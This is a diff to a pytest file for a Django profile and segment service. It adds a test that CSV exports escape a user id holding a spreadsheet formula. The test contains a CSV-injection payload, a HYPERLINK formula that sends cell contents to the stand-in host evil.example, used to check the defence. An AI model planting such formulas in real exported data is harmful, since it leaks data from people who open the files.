@@ -1,16 +1,22 @@
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from rest_framework.test import APIClient
 
+from profiles.collect import messages_collect
 from profiles.models import Identity, Segment, SegmentMembership
+from profiles.processing import pending_process
 from profiles.segments import segment_refresh
 from tests.factories import (
     IdentityFactory,
     ProfileFactory,
     PurposeFactory,
     SegmentFactory,
+    SourceFactory,
     consent_state_create,
 )
 
@@ -217,7 +223,7 @@ def test_csv_export_sends_only_members_with_consent(api_client_with_scopes, dutc
         format="json",
     )
     assert response.status_code == 200
-    lines = b"".join(response.streaming_content).decode().splitlines()
+    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
     assert lines == ["profile_id,email,user_id,phone", f"{dutch[0].pk},p0@example.nl,,"]
 
 
@@ -231,3 +237,36 @@ def test_export_needs_pii_permission_and_a_known_purpose(writer, api_client_with
     response = client.post(f"/api/segments/{segment.pk}/export/", body, format="json")
     assert response.status_code == 400
     assert "unknown or inactive purpose" in response.json()["errors"]["purpose"][0]
+
+
+def test_csv_export_neutralises_a_collected_formula_user_id(api_client_with_scopes, settings):
+    # Given a user id collected from a website that a spreadsheet would run as a formula
+    settings.CDPHUB_INGEST_PROCESSING = "off"
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    source = SourceFactory()
+    messages_collect(
+        source_id=source.pk,
+        messages=[{"type": "identify", "userId": hyperlink, "traits": {"country": "NL"}}],
+    )
+    pending_process()
+    profile = Identity.objects.get(kind=Identity.Kind.USER_ID).profile
+    consent_state_create(profile, PurposeFactory(code="email_marketing"), "granted")
+    segment = SegmentFactory(rule=DUTCH)
+    segment_refresh(segment=segment)
+
+    # When the members are exported as CSV
+    client = api_client_with_scopes("profiles:write", "pii:read")
+    response = client.post(
+        f"/api/segments/{segment.pk}/export/",
+        {"purpose": "email_marketing", "format": "csv"},
+        format="json",
+    )
+
+    # Then the cell is text for a spreadsheet, and Excel is told the file is UTF-8
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content)
+    assert body.startswith(b"\xef\xbb\xbfprofile_id,email,user_id,phone\r\n")
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows == [
+        {"profile_id": str(profile.pk), "email": "", "user_id": "'" + hyperlink, "phone": ""}
+    ]
